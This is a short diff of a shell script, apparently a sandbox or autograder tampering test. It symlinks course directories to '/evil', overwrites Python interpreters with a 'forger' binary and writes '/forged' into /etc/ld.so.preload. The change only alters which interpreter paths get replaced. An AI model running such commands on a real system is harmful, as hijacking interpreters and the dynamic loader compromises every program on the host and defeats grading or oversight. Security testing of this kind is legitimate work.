@@ -549,7 +549,7 @@ ln -s /evil /course-helper
 ln -s /evil /course
 mkdir -p /evil/usr/bin
 cp /forged /evil/script.py
-for name in /usr/bin/python3.11 /usr/local/bin/python3 /usr/local/bin/python /evil/usr/bin/python3
+for name in /usr/local/bin/python* /evil/usr/bin/python3
 do cp --remove-destination /forger $name
 done
 echo /forged > /etc/ld.so.preload
